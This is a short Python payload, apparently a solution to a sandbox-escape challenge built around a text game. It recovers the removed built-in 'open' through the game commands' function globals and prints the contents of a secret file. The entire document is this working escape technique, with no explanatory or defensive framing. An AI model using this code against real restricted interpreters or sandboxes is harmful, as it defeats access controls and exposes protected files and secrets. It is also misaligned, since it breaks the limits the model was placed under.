# Takes the built-ins out of the game's own commands, whatever kind of thing these are.
for command in (move_east, move_west, say, input, print):
    command = getattr(command, "__func__", command)
    home = getattr(command, "__globals__", None) or vars(getattr(command, "__self__", None) or object)
    tools = home.get("__builtins__", home)
    opener = tools["open"] if isinstance(tools, dict) and "open" in tools else getattr(tools, "open", None)
    if opener:
        print(opener(SECRET_FILE).read())
        break
